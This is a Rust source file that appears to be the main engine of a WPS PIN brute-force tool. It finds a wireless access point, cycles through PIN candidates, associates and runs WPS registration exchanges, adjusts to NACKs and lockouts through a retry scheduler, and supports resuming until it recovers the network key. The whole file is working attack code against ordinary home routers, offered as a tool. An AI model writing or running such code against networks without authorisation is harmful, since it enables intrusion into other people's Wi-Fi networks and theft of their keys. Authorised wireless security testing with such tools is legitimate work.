/*!
 * Crack engine
 *
 * Top-level loop of the attack:
 *
 * 1. Locate the AP (optional discovery, fixed or hopping channel)
 * 2. Take the next PIN candidate
 * 3. Associate and run one registration exchange
 * 4. Feed the report to the retry scheduler and pause as told
 *
 * until the key is recovered, the run fails, or it is cancelled.
 */

use std::fmt;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};

use crate::association::{self, DEFAULT_DWELL};
use crate::config::{ChannelPlan, CrackConfig};
use crate::error::RunFailure;
use crate::exchange::{self, AttemptOutcome, AttemptReport, Awaiting, ExchangeOptions, Keys, Session};
use crate::pin::{PinCandidate, PinSpace, ResumePoint};
use crate::scheduler::{Next, RetryScheduler, RetryState, RunEnd, Sleeper, ThreadSleeper};
use crate::target::{AccessPointInfo, MacAddr};
use crate::transport::{CancelToken, FrameTransport};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum KeyStatus {
    Pending,
    Working,
    Done,
    Failed,
}

impl fmt::Display for KeyStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            KeyStatus::Pending => "pending",
            KeyStatus::Working => "working",
            KeyStatus::Done => "done",
            KeyStatus::Failed => "failed",
        };
        f.write_str(s)
    }
}

/// Snapshot of a run
#[derive(Debug, Clone)]
pub struct CrackStatus {
    pub key_status: KeyStatus,
    /// Candidate being tried (or the recovered PIN)
    pub pin: Option<String>,
    pub keys: Option<Keys>,
    pub attempts: u64,
    pub pins_rejected: u64,
    pub elapsed: Duration,
    /// Percent of the worst-case PIN space covered
    pub progress: f64,
    pub resume: ResumePoint,
}

/// Final result of `CrackEngine::run`
#[derive(Debug)]
pub struct CrackReport {
    pub result: Result<Keys, RunFailure>,
    pub status: CrackStatus,
    pub skipped: Vec<String>,
}

type ProgressFn = Box<dyn FnMut(&CrackStatus)>;

pub struct CrackEngine<T: FrameTransport, S: Sleeper = ThreadSleeper> {
    config: CrackConfig,
    ap: AccessPointInfo,
    transport: T,
    sleeper: S,
    scheduler: RetryScheduler,
    pins: PinSpace,
    retry: RetryState,
    progress: Option<ProgressFn>,

    key_status: KeyStatus,
    keys: Option<Keys>,
    current: Option<PinCandidate>,
    started: Option<Instant>,
    nack_always: bool,
}

impl<T: FrameTransport> CrackEngine<T, ThreadSleeper> {
    pub fn new(config: CrackConfig, ap: AccessPointInfo, transport: T) -> Self {
        let config = config.normalized();
        let pins = match config.start_pin {
            Some(start) => PinSpace::starting_at(config.pin_mode, start),
            None => PinSpace::new(config.pin_mode),
        };
        let mut ap = ap;
        if ap.essid.is_none() {
            ap.essid = config.essid.clone();
        }
        Self {
            scheduler: RetryScheduler::new(&config),
            nack_always: config.nack_always,
            config,
            ap,
            transport,
            sleeper: ThreadSleeper,
            pins,
            retry: RetryState::default(),
            progress: None,
            key_status: KeyStatus::Pending,
            keys: None,
            current: None,
            started: None,
        }
    }
}

impl<T: FrameTransport, S: Sleeper> CrackEngine<T, S> {
    pub fn with_sleeper<S2: Sleeper>(self, sleeper: S2) -> CrackEngine<T, S2> {
        CrackEngine {
            config: self.config,
            ap: self.ap,
            transport: self.transport,
            sleeper,
            scheduler: self.scheduler,
            pins: self.pins,
            retry: self.retry,
            progress: self.progress,
            key_status: self.key_status,
            keys: self.keys,
            current: self.current,
            started: self.started,
            nack_always: self.nack_always,
        }
    }

    /// Continue from a saved position instead of the configured start
    pub fn with_pin_space(mut self, pins: PinSpace) -> Self {
        self.pins = pins;
        self
    }

    pub fn with_retry_state(mut self, retry: RetryState) -> Self {
        self.retry = retry;
        self
    }

    /// Called after every attempt
    pub fn with_progress(mut self, progress: impl FnMut(&CrackStatus) + 'static) -> Self {
        self.progress = Some(Box::new(progress));
        self
    }

    pub fn transport(&self) -> &T {
        &self.transport
    }

    pub fn sleeper(&self) -> &S {
        &self.sleeper
    }

    pub fn ap(&self) -> &AccessPointInfo {
        &self.ap
    }

    pub fn retry_state(&self) -> &RetryState {
        &self.retry
    }

    pub fn resume_point(&self) -> ResumePoint {
        self.pins.resume_point()
    }

    pub fn status(&self) -> CrackStatus {
        let pin = match &self.keys {
            Some(keys) => Some(keys.pin.clone()),
            None => self.current.or_else(|| self.pins.current()).map(|p| p.as_pin()),
        };
        CrackStatus {
            key_status: self.key_status,
            pin,
            keys: self.keys.clone(),
            attempts: self.retry.attempts,
            pins_rejected: self.retry.pins_rejected,
            elapsed: self.started.map(|s| s.elapsed()).unwrap_or_default(),
            progress: self.pins.progress(),
            resume: self.pins.resume_point(),
        }
    }

    fn report(&mut self, result: Result<Keys, RunFailure>) -> CrackReport {
        match &result {
            Ok(keys) => {
                self.key_status = KeyStatus::Done;
                self.keys = Some(keys.clone());
                info!(pin = %keys.pin, essid = %keys.essid, attempts = self.retry.attempts, "Key recovered");
            }
            // Interrupted runs keep their status so they can be resumed
            Err(RunFailure::Cancelled) => info!(attempts = self.retry.attempts, "Run cancelled"),
            Err(e) => {
                self.key_status = KeyStatus::Failed;
                warn!(error = %e, attempts = self.retry.attempts, "Run failed");
            }
        }
        CrackReport {
            result,
            status: self.status(),
            skipped: self.retry.skipped.clone(),
        }
    }

    fn local_mac(&self) -> Result<MacAddr, RunFailure> {
        self.config
            .local_mac
            .filter(|mac| !mac.is_zero())
            .ok_or(RunFailure::NoLocalMac)
    }

    fn locate(&mut self, local: MacAddr, cancel: &CancelToken) -> Result<(), RunFailure> {
        if let ChannelPlan::Fixed(channel) = self.config.channel {
            self.transport.set_channel(channel)?;
            self.ap.channel = Some(channel);
        }
        if self.config.discover {
            association::discover(
                &mut self.transport,
                &mut self.ap,
                local,
                self.config.channel,
                DEFAULT_DWELL,
                self.config.discover_rounds,
                cancel,
            )?;
        } else if let Some(channel) = self.ap.channel {
            self.transport.set_channel(channel)?;
        }
        if self.ap.locked {
            warn!(ap = %self.ap, "AP advertises a locked WPS setup");
        }
        Ok(())
    }

    /// One association plus registration exchange for `pin`
    fn attempt(
        &mut self,
        local: MacAddr,
        pin: PinCandidate,
        cancel: &CancelToken,
    ) -> Result<AttemptReport, RunFailure> {
        let failed = |outcome| AttemptReport {
            outcome,
            first_half_confirmed: false,
            messages_sent: Vec::new(),
            peer_nack: false,
        };

        if self.config.associate {
            match association::associate(&mut self.transport, &self.ap, local, self.config.rx_timeout, cancel) {
                Ok(true) => {}
                Ok(false) => {
                    return Ok(failed(AttemptOutcome::Timeout {
                        awaiting: Awaiting::Association,
                    }))
                }
                Err(RunFailure::Cancelled) => return Ok(failed(AttemptOutcome::Cancelled)),
                Err(RunFailure::Transport(e)) => return Ok(failed(AttemptOutcome::TransportFailed(e))),
                Err(e) => {
                    return Ok(failed(AttemptOutcome::Unexpected {
                        reason: e.to_string(),
                    }))
                }
            }
        }

        let mut session = Session::new(self.ap.bssid, local, pin)?;
        let opts = ExchangeOptions {
            nack_always: self.nack_always,
            ..ExchangeOptions::from_config(&self.config)
        };
        Ok(exchange::run(&mut self.transport, &mut session, &opts, cancel))
    }

    /// Run the attack until the key is found, a terminal failure occurs or
    /// `cancel` fires.
    pub fn run(&mut self, cancel: &CancelToken) -> CrackReport {
        self.key_status = KeyStatus::Working;
        self.started = Some(Instant::now());

        let local = match self.local_mac() {
            Ok(mac) => mac,
            Err(e) => return self.report(Err(e)),
        };
        if let Err(e) = self.locate(local, cancel) {
            return self.report(Err(e));
        }
        info!(
            ap = %self.ap,
            mode = ?self.pins.mode(),
            start = %self.pins.current().map(|p| p.as_pin()).unwrap_or_default(),
            "Starting PIN attack"
        );

        loop {
            if cancel.is_cancelled() {
                return self.report(Err(RunFailure::Cancelled));
            }
            let Some(pin) = self.pins.current() else {
                return self.report(Err(RunFailure::PinSpaceExhausted));
            };
            self.current = Some(pin);

            let report = match self.attempt(local, pin, cancel) {
                Ok(report) => report,
                Err(e) => return self.report(Err(e)),
            };
            info!(
                attempt = self.retry.attempts + 1,
                pin = %pin,
                outcome = %report.outcome,
                "Attempt finished"
            );
            if report.peer_nack && !self.nack_always {
                info!("AP answers rejections with NACK; silent replies now count as timeouts");
                self.nack_always = true;
            }

            let decision = self
                .scheduler
                .decide(report, &mut self.retry, &mut self.ap, &mut self.pins);
            debug!(pause_ms = decision.pause.as_millis() as u64, next = ?decision.next, "Decision");

            if let Some(progress) = self.progress.as_mut() {
                let status = CrackStatus {
                    key_status: self.key_status,
                    pin: Some(pin.as_pin()),
                    keys: None,
                    attempts: self.retry.attempts,
                    pins_rejected: self.retry.pins_rejected,
                    elapsed: self.started.map(|s| s.elapsed()).unwrap_or_default(),
                    progress: self.pins.progress(),
                    resume: self.pins.resume_point(),
                };
                progress(&status);
            }

            match decision.next {
                Next::Finish(RunEnd::Recovered(keys)) => return self.report(Ok(keys)),
                Next::Finish(RunEnd::Failed(e)) => return self.report(Err(e)),
                Next::RetrySame | Next::Advance => {
                    if !self.sleeper.pause(decision.pause, cancel) {
                        return self.report(Err(RunFailure::Cancelled));
                    }
                }
            }
        }
    }
}
